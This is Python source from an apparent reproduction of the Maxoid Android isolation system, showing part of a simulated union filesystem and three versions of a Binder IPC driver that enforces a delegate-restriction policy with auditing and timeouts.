                    opaque = True
                    continue
                if name.startswith(WHITEOUT_PREFIX):
                    hidden.add(name[len(WHITEOUT_PREFIX) :])
                    continue
                if name not in seen and name not in hidden:
                    seen.add(name)
                    names.append(name)
            if opaque:
                break
        return sorted(names)

    def unlink(self, path: str, cred: Credentials) -> None:
        if self._single is not None and self._single.writable:
            self._single.fs.unlink(self._single.path(path), ROOT_CRED)
            return
        index, stat = self._find(path)
        if stat.is_dir:
            raise IsADirectory(path)
        self._check_access(stat, cred, 0o2)
        branch = self._require_writable()
        if self.branches[index].writable:
            branch.fs.unlink(branch.path(path), ROOT_CRED)
            index += 1
        # If the name still exists in any lower branch, mask it.
        still_visible = any(
            self.branches[i].fs.exists(self.branches[i].path(path), ROOT_CRED)
            for i in range(index, len(self.branches))
        )
        if still_visible:
            self._ensure_parents(path)
            branch.fs.write_file(_whiteout_path(branch, path), b"", ROOT_CRED)

    def rmdir(self, path: str, cred: Credentials) -> None:
        index, stat = self._find(path)
        if not stat.is_dir:
            raise NotADirectory(path)
        if self.readdir(path, ROOT_CRED):
            raise DirectoryNotEmpty(path)
        self._check_access(stat, cred, 0o2)
        branch = self._require_writable()
        if self.branches[index].writable:
            target = branch.path(path)
            opaque = vpath.join(target, OPAQUE_MARKER)
            if branch.fs.exists(opaque, ROOT_CRED):
                branch.fs.unlink(opaque, ROOT_CRED)
            for name in list(branch.fs.readdir(target, ROOT_CRED)):
                branch.fs.unlink(vpath.join(target, name), ROOT_CRED)
            branch.fs.rmdir(target, ROOT_CRED)
            index += 1
        still_visible = any(
            self.branches[i].fs.exists(self.branches[i].path(path), ROOT_CRED)
            for i in range(index, len(self.branches))
        )
        if still_visible:
            self._ensure_parents(path)
            branch.fs.write_file(_whiteout_path(branch, path), b"", ROOT_CRED)

    def rename(self, old: str, new: str, cred: Credentials) -> None:
        """Rename within the union.

        Implemented as copy-up of the source into the writable branch at the
        new name, then deletion of the old name — the strategy real union
        filesystems use when the source lives in a read-only branch.
        """
        index, stat = self._find(old)
        self._check_access(stat, cred, 0o2)
        branch = self._require_writable()
        if stat.is_file:
            data = self.read_file(old, ROOT_CRED)
            self._ensure_parents(new)
            self._drop_whiteout(new)
            target = branch.path(new)
            branch.fs.write_file(target, data, ROOT_CRED, mode=stat.mode)
            branch.fs.chown(target, cred.uid, gid=cred.gid)
            self.unlink(old, cred)
            return
        # Directory rename: materialize the subtree under the new name.
        self._copy_up_tree(old, cred)
        source_root = branch.path(old)
        self._ensure_parents(new)
        self._drop_whiteout(new)
        branch.fs.rename(source_root, branch.path(new), ROOT_CRED)
        still_visible = any(
            b.fs.exists(b.path(old), ROOT_CRED) for b in self.branches if not b.writable
        )
        if still_visible:
            branch.fs.write_file(_whiteout_path(branch, old), b"", ROOT_CRED)

    # ------------------------------------------------------------------
    # Introspection (used by the branch manager and the benchmarks)
    # ------------------------------------------------------------------

    def describe(self) -> List[str]:
        """Human-readable branch list, highest priority first."""
        out = []
        for branch in self.branches:
            rw = "rw" if branch.writable else "ro"
            out.append(f"{branch.label or branch.root}({rw})")
        return out

    def reset_counters(self) -> None:
        """Zero the copy-up/lookup statistics counters."""
        self.copy_up_count = 0
        self.copy_up_bytes = 0
        self.lookup_branches_scanned = 0


def purge_copyup_temps(fs: Filesystem) -> List[str]:
    """Remove orphaned copy-up staging files from a branch filesystem.

    A crash between the staging write and the publishing rename leaves a
    ``.wh..wh.cpup.*`` file behind; it is invisible through the union but
    still occupies space. ``Device.recover()`` calls this on every branch
    store. Returns the paths removed.
    """
    removed: List[str] = []
    stack = ["/"]
    while stack:
        current = stack.pop()
        for name in list(fs.readdir(current, ROOT_CRED)):
            child = vpath.join(current, name)
            if fs.stat(child, ROOT_CRED).is_dir:
                stack.append(child)
            elif name.startswith(COPYUP_TMP_PREFIX):
                fs.unlink(child, ROOT_CRED)
                removed.append(child)
    return removed
