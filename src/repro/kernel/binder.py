"""Binder IPC with the Maxoid restriction hook.

Android's low-level IPC is Binder; intents, content-provider calls, and
service calls all ride on it. Maxoid restricts a delegate's *direct* Binder
peers to trusted system services, its initiator, and delegates of the same
initiator (paper sections 3.4 and 6.2).

The driver routes :class:`Transaction` objects between named endpoints. A
policy callable installed by :mod:`repro.core.ipc_guard` decides whether a
(sender-context, endpoint) pair may communicate; with no policy installed
the driver behaves like stock Android (everything goes through).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional

from repro.errors import DelegateTimeout, IpcDenied, NoSuchProcess, ProviderNotFound
from repro.faults import FAULTS as _FAULTS
from repro.kernel.proc import Process, ProcessTable, TaskContext
from repro.obs import OBS as _OBS
from repro.sched import SCHED as _SCHED


@dataclass
class Transaction:
    """One Binder transaction: sender identity plus an arbitrary payload."""

    sender_pid: int
    sender_context: TaskContext
    code: str
    payload: Any = None


@dataclass
class BinderEndpoint:
    """A registered Binder service or app component endpoint.

    ``owner`` is the owning package, or ``None`` for trusted system
    services (Activity Manager, system content providers, ...), which are
    always reachable. ``handler`` receives a :class:`Transaction` and
    returns a reply.
    """

    name: str
    owner: Optional[str]
    handler: Callable[[Transaction], Any]
    is_system: bool = False
    #: The process behind a per-instance app endpoint (``app:<pid>``).
    #: System services have no backing pid and are always reachable.
    pid: Optional[int] = None


# Policy signature: (sender_context, endpoint) -> allowed?
BinderPolicy = Callable[[TaskContext, BinderEndpoint], bool]


class BinderDriver:
    """Routes transactions between endpoints, subject to a policy."""

    #: Virtual-clock budget for one delegate transaction attempt, and the
    #: bounded-retry policy around it (deterministic exponential backoff:
    #: ``retry_backoff_ms * 2**attempt`` on the scheduler's clock). Only
    #: delegate senders under the deterministic scheduler pay deadlines —
    #: plain apps and the single-threaded simulation are untouched.
    delegate_deadline_ms: float = 400.0
    delegate_retries: int = 2
    retry_backoff_ms: float = 16.0

    def __init__(self, obs: Optional[Any] = None) -> None:
        # The owning device's observability context (fleet devices pass
        # their own; bare drivers fall back to the default OBS).
        self.obs = obs if obs is not None else _OBS
        self._endpoints: Dict[str, BinderEndpoint] = {}
        self._policy: Optional[BinderPolicy] = None
        self._processes: Optional[ProcessTable] = None
        self._audit_log = None
        self.transaction_log: List[Transaction] = []
        self.denied_log: List[Transaction] = []

    def attach_process_table(self, processes: ProcessTable) -> None:
        """Let the driver check recipient liveness (done by the Device).

        The real Binder driver learns about process death through the
        kernel; here the attached table plays that role, so transactions to
        dead recipients fail closed with :class:`NoSuchProcess`.
        """
        self._processes = processes

    def attach_audit_log(self, audit_log) -> None:
        """Wire the device's AuditLog so DelegateTimeout retries and
        abandonments surface as ``timeout`` events instead of vanishing."""
        self._audit_log = audit_log

    def register(
        self,
        name: str,
        handler: Callable[[Transaction], Any],
        *,
        owner: Optional[str] = None,
        is_system: bool = False,
        pid: Optional[int] = None,
    ) -> BinderEndpoint:
        endpoint = BinderEndpoint(
            name=name, owner=owner, handler=handler, is_system=is_system, pid=pid
        )
        self._endpoints[name] = endpoint
        return endpoint

    def unregister(self, name: str) -> None:
        self._endpoints.pop(name, None)

    def endpoint(self, name: str) -> BinderEndpoint:
        endpoint = self._endpoints.get(name)
        if endpoint is None:
            raise ProviderNotFound(f"no binder endpoint named {name!r}")
        return endpoint

    def install_policy(self, policy: BinderPolicy) -> None:
        """Install the Maxoid restriction hook (kernel modification #3)."""
        self._policy = policy

    def transact(self, sender: Process, target: str, code: str, payload: Any = None) -> Any:
        """Send a transaction from ``sender`` to endpoint ``target``.

        Raises :class:`IpcDenied` when the installed policy refuses the
        pair; otherwise invokes the endpoint handler and returns its reply.

        With tracing enabled the transaction runs inside a ``binder.transact``
        span, so work the endpoint handler does (syscalls, provider queries)
        nests under the caller's trace — the propagation that stitches one
        delegate invocation into a single tree.

        Under the deterministic scheduler, delegate senders additionally
        run each attempt under a virtual-clock deadline with bounded
        retries and deterministic backoff (see ``delegate_deadline_ms``):
        a wedged delegate call surfaces :class:`DelegateTimeout` in the
        AuditLog instead of hanging the schedule.
        """
        if (
            _SCHED.enabled
            and sender.context.is_delegate
            and _SCHED.current_task() is not None
        ):
            return self._transact_with_deadline(sender, target, code, payload)
        return self._traced_transact(sender, target, code, payload)

    def _transact_with_deadline(
        self, sender: Process, target: str, code: str, payload: Any
    ) -> Any:
        last: Optional[DelegateTimeout] = None
        for attempt in range(self.delegate_retries + 1):
            try:
                with _SCHED.deadline(self.delegate_deadline_ms):
                    return self._traced_transact(sender, target, code, payload)
            except DelegateTimeout as error:
                last = error
                if self._audit_log is not None:
                    self._audit_log.record(
                        "timeout",
                        str(error),
                        ctx=str(sender.context),
                        target=target,
                        code=code,
                        attempt=attempt,
                        vclock=_SCHED.clock,
                    )
                if attempt < self.delegate_retries:
                    _SCHED.sleep(self.retry_backoff_ms * (2 ** attempt))
        if self._audit_log is not None:
            self._audit_log.record(
                "timeout",
                f"binder: abandoned {target!r} after "
                f"{self.delegate_retries + 1} attempts",
                ctx=str(sender.context),
                target=target,
                code=code,
                vclock=_SCHED.clock,
            )
        assert last is not None
        raise last

    def _traced_transact(
        self, sender: Process, target: str, code: str, payload: Any
    ) -> Any:
        if self.obs.enabled:
            with self.obs.tracer.span(
                "binder.transact", ctx=str(sender.context), target=target, code=code
            ):
                return self._transact_impl(sender, target, code, payload)
        return self._transact_impl(sender, target, code, payload)

    def _transact_impl(self, sender: Process, target: str, code: str, payload: Any) -> Any:
        if _FAULTS.enabled:
            _FAULTS.hit(
                "binder.transact",
                ctx=str(sender.context),
                target=target,
                code=code,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point(
                "binder.transact",
                target=target,
                code=code,
                resource=f"endpoint:{target}",
                rw="r",
            )
        if not sender.alive:
            raise NoSuchProcess(f"binder: sender pid {sender.pid} has exited")
        endpoint = self._live_endpoint(target)
        transaction = Transaction(
            sender_pid=sender.pid,
            sender_context=sender.context,
            code=code,
            payload=payload,
        )
        if self._policy is not None and not self._policy(sender.context, endpoint):
            self.denied_log.append(transaction)
            if self.obs.enabled:
                self.obs.metrics.count("binder.denied")
            raise IpcDenied(
                f"binder: {sender.context} may not transact with {endpoint.name}"
            )
        self.transaction_log.append(transaction)
        if self.obs.enabled:
            self.obs.metrics.count("binder.transactions")
        if _SCHED.enabled:
            # Delivery is a separate boundary from the policy check: the
            # kernel may preempt between admission and handler dispatch.
            _SCHED.yield_point("binder.deliver", target=target, code=code)
        if self.obs.prov:
            # Work the endpoint does on the sender's behalf (clipboard,
            # providers) must taint/stamp as the *sender*, not the service.
            self.obs.provenance.push_actor(str(sender.context), sender.pid)
            try:
                return endpoint.handler(transaction)
            finally:
                self.obs.provenance.pop_actor()
        return endpoint.handler(transaction)

    def _live_endpoint(self, target: str) -> BinderEndpoint:
        """Resolve ``target``, failing closed on dead recipients.

        A transaction to a dead app process raises :class:`NoSuchProcess`
        consistently — whether the stale endpoint is still registered
        (killed process, endpoint not yet torn down) or already gone
        (``app:<pid>`` names only ever back processes). Non-app endpoints
        that were never registered remain :class:`ProviderNotFound`.
        """
        endpoint = self._endpoints.get(target)
        if endpoint is None:
            if target.startswith("app:"):
                raise NoSuchProcess(f"binder: no live process behind {target!r}")
            raise ProviderNotFound(f"no binder endpoint named {target!r}")
        if endpoint.pid is not None and self._processes is not None:
            try:
                self._processes.get(endpoint.pid)
            except NoSuchProcess:
                self.unregister(target)
                raise NoSuchProcess(
                    f"binder: recipient pid {endpoint.pid} behind {target!r} has exited"
                )
        return endpoint
