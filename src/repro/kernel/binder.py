"""Binder IPC with the Maxoid restriction hook.

Android's low-level IPC is Binder; intents, content-provider calls, and
service calls all ride on it. Maxoid restricts a delegate's *direct* Binder
peers to trusted system services, its initiator, and delegates of the same
initiator (paper sections 3.4 and 6.2).

The driver routes :class:`Transaction` objects between named endpoints. A
policy callable installed by :mod:`repro.core.ipc_guard` decides whether a
(sender-context, endpoint) pair may communicate; with no policy installed
the driver behaves like stock Android (everything goes through).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional

from repro.errors import IpcDenied, NoSuchProcess, ProviderNotFound
from repro.faults import FAULTS as _FAULTS
from repro.kernel.proc import Process, ProcessTable, TaskContext
from repro.obs import OBS as _OBS


@dataclass
class Transaction:
    """One Binder transaction: sender identity plus an arbitrary payload."""

    sender_pid: int
    sender_context: TaskContext
    code: str
    payload: Any = None


@dataclass
class BinderEndpoint:
    """A registered Binder service or app component endpoint.

    ``owner`` is the owning package, or ``None`` for trusted system
    services (Activity Manager, system content providers, ...), which are
    always reachable. ``handler`` receives a :class:`Transaction` and
    returns a reply.
    """

    name: str
    owner: Optional[str]
    handler: Callable[[Transaction], Any]
    is_system: bool = False
    #: The process behind a per-instance app endpoint (``app:<pid>``).
    #: System services have no backing pid and are always reachable.
    pid: Optional[int] = None


# Policy signature: (sender_context, endpoint) -> allowed?
BinderPolicy = Callable[[TaskContext, BinderEndpoint], bool]


class BinderDriver:
    """Routes transactions between endpoints, subject to a policy."""

    def __init__(self) -> None:
        self._endpoints: Dict[str, BinderEndpoint] = {}
        self._policy: Optional[BinderPolicy] = None
        self._processes: Optional[ProcessTable] = None
        self.transaction_log: List[Transaction] = []
        self.denied_log: List[Transaction] = []

    def attach_process_table(self, processes: ProcessTable) -> None:
        """Let the driver check recipient liveness (done by the Device).

        The real Binder driver learns about process death through the
        kernel; here the attached table plays that role, so transactions to
        dead recipients fail closed with :class:`NoSuchProcess`.
        """
        self._processes = processes

    def register(
        self,
        name: str,
        handler: Callable[[Transaction], Any],
        *,
        owner: Optional[str] = None,
        is_system: bool = False,
        pid: Optional[int] = None,
    ) -> BinderEndpoint:
        endpoint = BinderEndpoint(
            name=name, owner=owner, handler=handler, is_system=is_system, pid=pid
        )
        self._endpoints[name] = endpoint
        return endpoint

    def unregister(self, name: str) -> None:
        self._endpoints.pop(name, None)

    def endpoint(self, name: str) -> BinderEndpoint:
        endpoint = self._endpoints.get(name)
        if endpoint is None:
            raise ProviderNotFound(f"no binder endpoint named {name!r}")
        return endpoint

    def install_policy(self, policy: BinderPolicy) -> None:
        """Install the Maxoid restriction hook (kernel modification #3)."""
        self._policy = policy

    def transact(self, sender: Process, target: str, code: str, payload: Any = None) -> Any:
        """Send a transaction from ``sender`` to endpoint ``target``.

        Raises :class:`IpcDenied` when the installed policy refuses the
        pair; otherwise invokes the endpoint handler and returns its reply.

        With tracing enabled the transaction runs inside a ``binder.transact``
        span, so work the endpoint handler does (syscalls, provider queries)
        nests under the caller's trace — the propagation that stitches one
        delegate invocation into a single tree.
        """
        if _OBS.enabled:
            with _OBS.tracer.span(
                "binder.transact", ctx=str(sender.context), target=target, code=code
            ):
                return self._transact_impl(sender, target, code, payload)
        return self._transact_impl(sender, target, code, payload)

    def _transact_impl(self, sender: Process, target: str, code: str, payload: Any) -> Any:
        if _FAULTS.enabled:
            _FAULTS.hit(
                "binder.transact", ctx=str(sender.context), target=target, code=code
            )
        if not sender.alive:
            raise NoSuchProcess(f"binder: sender pid {sender.pid} has exited")
        endpoint = self._live_endpoint(target)
        transaction = Transaction(
            sender_pid=sender.pid,
            sender_context=sender.context,
            code=code,
            payload=payload,
        )
        if self._policy is not None and not self._policy(sender.context, endpoint):
            self.denied_log.append(transaction)
            if _OBS.enabled:
                _OBS.metrics.count("binder.denied")
            raise IpcDenied(
                f"binder: {sender.context} may not transact with {endpoint.name}"
            )
        self.transaction_log.append(transaction)
        if _OBS.enabled:
            _OBS.metrics.count("binder.transactions")
        if _OBS.prov:
            # Work the endpoint does on the sender's behalf (clipboard,
            # providers) must taint/stamp as the *sender*, not the service.
            _OBS.provenance.push_actor(str(sender.context), sender.pid)
            try:
                return endpoint.handler(transaction)
            finally:
                _OBS.provenance.pop_actor()
        return endpoint.handler(transaction)

    def _live_endpoint(self, target: str) -> BinderEndpoint:
        """Resolve ``target``, failing closed on dead recipients.

        A transaction to a dead app process raises :class:`NoSuchProcess`
        consistently — whether the stale endpoint is still registered
        (killed process, endpoint not yet torn down) or already gone
        (``app:<pid>`` names only ever back processes). Non-app endpoints
        that were never registered remain :class:`ProviderNotFound`.
        """
        endpoint = self._endpoints.get(target)
        if endpoint is None:
            if target.startswith("app:"):
                raise NoSuchProcess(f"binder: no live process behind {target!r}")
            raise ProviderNotFound(f"no binder endpoint named {target!r}")
        if endpoint.pid is not None and self._processes is not None:
            try:
                self._processes.get(endpoint.pid)
            except NoSuchProcess:
                self.unregister(target)
                raise NoSuchProcess(
                    f"binder: recipient pid {endpoint.pid} behind {target!r} has exited"
                )
        return endpoint
