"""Binder IPC with the Maxoid restriction hook.

Android's low-level IPC is Binder; intents, content-provider calls, and
service calls all ride on it. Maxoid restricts a delegate's *direct* Binder
peers to trusted system services, its initiator, and delegates of the same
initiator (paper sections 3.4 and 6.2).

The driver routes :class:`Transaction` objects between named endpoints. A
policy callable installed by :mod:`repro.core.ipc_guard` decides whether a
(sender-context, endpoint) pair may communicate; with no policy installed
the driver behaves like stock Android (everything goes through).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional

from repro.errors import IpcDenied, ProviderNotFound
from repro.kernel.proc import Process, TaskContext
from repro.obs import OBS as _OBS


@dataclass
class Transaction:
    """One Binder transaction: sender identity plus an arbitrary payload."""

    sender_pid: int
    sender_context: TaskContext
    code: str
    payload: Any = None


@dataclass
class BinderEndpoint:
    """A registered Binder service or app component endpoint.

    ``owner`` is the owning package, or ``None`` for trusted system
    services (Activity Manager, system content providers, ...), which are
    always reachable. ``handler`` receives a :class:`Transaction` and
    returns a reply.
    """

    name: str
    owner: Optional[str]
    handler: Callable[[Transaction], Any]
    is_system: bool = False


# Policy signature: (sender_context, endpoint) -> allowed?
BinderPolicy = Callable[[TaskContext, BinderEndpoint], bool]


class BinderDriver:
    """Routes transactions between endpoints, subject to a policy."""

    def __init__(self) -> None:
        self._endpoints: Dict[str, BinderEndpoint] = {}
        self._policy: Optional[BinderPolicy] = None
        self.transaction_log: List[Transaction] = []
        self.denied_log: List[Transaction] = []

    def register(
        self,
        name: str,
        handler: Callable[[Transaction], Any],
        *,
        owner: Optional[str] = None,
        is_system: bool = False,
    ) -> BinderEndpoint:
        endpoint = BinderEndpoint(name=name, owner=owner, handler=handler, is_system=is_system)
        self._endpoints[name] = endpoint
        return endpoint

    def unregister(self, name: str) -> None:
        self._endpoints.pop(name, None)

    def endpoint(self, name: str) -> BinderEndpoint:
        endpoint = self._endpoints.get(name)
        if endpoint is None:
            raise ProviderNotFound(f"no binder endpoint named {name!r}")
        return endpoint

    def install_policy(self, policy: BinderPolicy) -> None:
        """Install the Maxoid restriction hook (kernel modification #3)."""
        self._policy = policy

    def transact(self, sender: Process, target: str, code: str, payload: Any = None) -> Any:
        """Send a transaction from ``sender`` to endpoint ``target``.

        Raises :class:`IpcDenied` when the installed policy refuses the
        pair; otherwise invokes the endpoint handler and returns its reply.

        With tracing enabled the transaction runs inside a ``binder.transact``
        span, so work the endpoint handler does (syscalls, provider queries)
        nests under the caller's trace — the propagation that stitches one
        delegate invocation into a single tree.
        """
        if _OBS.enabled:
            with _OBS.tracer.span(
                "binder.transact", ctx=str(sender.context), target=target, code=code
            ):
                return self._transact_impl(sender, target, code, payload)
        return self._transact_impl(sender, target, code, payload)

    def _transact_impl(self, sender: Process, target: str, code: str, payload: Any) -> Any:
        endpoint = self.endpoint(target)
        transaction = Transaction(
            sender_pid=sender.pid,
            sender_context=sender.context,
            code=code,
            payload=payload,
        )
        if self._policy is not None and not self._policy(sender.context, endpoint):
            self.denied_log.append(transaction)
            if _OBS.enabled:
                _OBS.metrics.count("binder.denied")
            raise IpcDenied(
                f"binder: {sender.context} may not transact with {endpoint.name}"
            )
        self.transaction_log.append(transaction)
        if _OBS.enabled:
            _OBS.metrics.count("binder.transactions")
        return endpoint.handler(transaction)
